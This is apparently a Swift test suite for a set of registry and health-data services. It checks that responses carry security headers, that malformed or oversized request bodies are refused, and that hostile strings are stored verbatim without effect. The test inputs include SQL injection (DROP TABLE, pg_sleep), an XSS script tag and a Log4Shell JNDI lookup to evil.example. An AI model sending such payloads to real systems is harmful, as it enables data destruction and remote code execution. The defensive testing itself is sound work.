import Foundation
import HTTPTypes
import Postgres
import ServiceKit
import TestSupport
import Testing

/// What every service does with hostile input and what every answer carries: the security
/// headers on answers of every kind, bodies too large or nested too deeply refused early, bytes
/// that are not UTF-8 refused, and injection strings stored and returned verbatim without effect.
@Suite("Security of every service's answers and inputs", .timeLimit(.minutes(3)))
struct SecurityTests {
    /// A write each service takes from a caller the test has, with a body.
    static let writes: [(service: String, method: HTTPRequest.Method, path: String, caller: String)] = [
        ("registry", .post, "/v1/facilities", "admin1"),
        ("treatment", .post, "/v1/regimes", "admin1"),
        ("referrals", .post, "/v1/partners", "admin1"),
        ("statistics", .put, "/v1/targets/determinations/01/2026", "province01"),
    ]

    @Test(arguments: ["registry", "treatment", "referrals", "statistics"])
    func hostileBodiesAreRefusedEarlyAndEveryAnswerCarriesTheHeaders(_ name: String) async throws {
        try await PeopleTests.withRegistry("security_\(name)") { _, tokens, database in
            try await ServiceHarness.withService(try ServiceHarness.descriptor(named: name), database: database) { service in
                let write = try #require(Self.writes.first { $0.service == name })
                let token = tokens[write.caller]
                var answers: [(String, ServiceClient.Reply)] = []
                func send(_ label: String, _ reply: ServiceClient.Reply) -> ServiceClient.Reply {
                    answers.append((label, reply))
                    return reply
                }
                _ = send("health", try await service.call(.get, "/healthz"))
                _ = send("document", try await service.call(.get, "/openapi.json"))
                _ = send("unknown path", try await service.call(.get, "/v1/no-such-thing", token: token))
                _ = send("no token", try await service.call(write.method, write.path, json: "{}"))

                // Two mebibytes: refused with 413 before it is decoded.
                let large = send(
                    "too large",
                    try await service.call(write.method, write.path, token: token, json: "[" + String(repeating: "0,", count: 1 << 20) + "0]"))
                #expect(large.status == 413 && large.contentType == "application/problem+json", "\(large.status) \(large.body.prefix(300))")
                // Nested 100,000 deep (200 kB): refused as malformed, the parser's depth bounded.
                let deep = send(
                    "nested",
                    try await service.call(
                        write.method, write.path, token: token,
                        json: String(repeating: "[", count: 100_000) + String(repeating: "]", count: 100_000)))
                #expect([400, 422].contains(deep.status) && deep.contentType == "application/problem+json", "\(deep.status) \(deep.body)")
                // Bytes that are not UTF-8 inside a JSON string.
                let bytes = Array(#"{"name":"Tr"#.utf8) + [0xC3, 0x28, 0xFF] + Array(#"n"}"#.utf8)
                let malformed = send(
                    "not UTF-8",
                    try await service.call(write.method, write.path, token: token, csvBytes: bytes, headers: [.contentType: "application/json"]))
                #expect([400, 422].contains(malformed.status) && malformed.contentType == "application/problem+json", "\(malformed.body)")
                // Not JSON at all.
                let garbage = send("not JSON", try await service.call(write.method, write.path, token: token, json: "{\"name\": "))
                #expect(garbage.status == 400, "\(garbage.body)")

                for (label, reply) in answers {
                    #expect(reply.status < 500, "\(name) \(label): \(reply.status)")
                    for field in SecurityHeadersMiddleware<AppRequestContext>.headers {
                        #expect(
                            reply.headers[field.name] == field.value,
                            "\(name) \(label) (\(reply.status)): \(field.name) is \(reply.headers[field.name] ?? "missing")")
                    }
                }
            }
        }
    }

    /// SQL, markup and template text in every kind of field is kept exactly and does nothing.
    @Test func injectionStringsAreStoredVerbatimAndHarmless() async throws {
        try await PeopleTests.withRegistry("security_injection") { registry, tokens, database in
            let officer = tokens["commune00004"]
            let hostile = [
                "Robert'); DROP TABLE registry.people;--", "<script>alert('xss')</script>", "${jndi:ldap://evil.example/a}",
                "' OR '1'='1", "\\\"; SELECT pg_sleep(5); --", "{{7*7}} %s %n $1",
            ]
            var ids: [String] = []
            for (index, text) in hostile.enumerated() {
                let escaped = text.replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(of: "\"", with: "\\\"")
                let created = try await registry.call(
                    .post, "/v1/people", token: officer,
                    json:
                        #"{"fullName":"\#(escaped)","birthYear":\#(1980 + index),"sex":"male","notes":"\#(escaped)","residence":{"communeCode":"00004","address":"\#(escaped)"}}"#
                )
                #expect(created.status == 201, "\(text): \(created.body)")
                #expect(created.json["fullName"] as? String == text && created.json["notes"] as? String == text, "\(created.body)")
                ids.append(try PeopleTests.id(created))
            }
            for (id, text) in zip(ids, hostile) {
                let read = try await registry.call(.get, "/v1/people/\(id)", token: officer)
                #expect(read.json["fullName"] as? String == text, "\(read.body)")
                #expect((read.json["residence"] as? [String: Any])?["address"] as? String == text, "\(read.body)")
            }
            // A search for the classic tautology finds only the person of that name.
            let query = "' OR '1'='1".addingPercentEncoding(withAllowedCharacters: .alphanumerics)!
            let found = try await registry.call(.get, "/v1/people?q=\(query)", token: officer)
            #expect(found.status == 200, "\(found.body)")
            let names = ((found.json["items"] as? [[String: Any]]) ?? []).compactMap { $0["fullName"] as? String }
            #expect(names == ["' OR '1'='1"], "\(names)")
            // And the table the first name tried to drop is whole.
            let admin = try await database.connect()
            #expect(try await admin.query("SELECT count(*) FROM registry.people")[0].decode(Int.self, at: 0) == hostile.count)
            await admin.close()
        }
    }
}
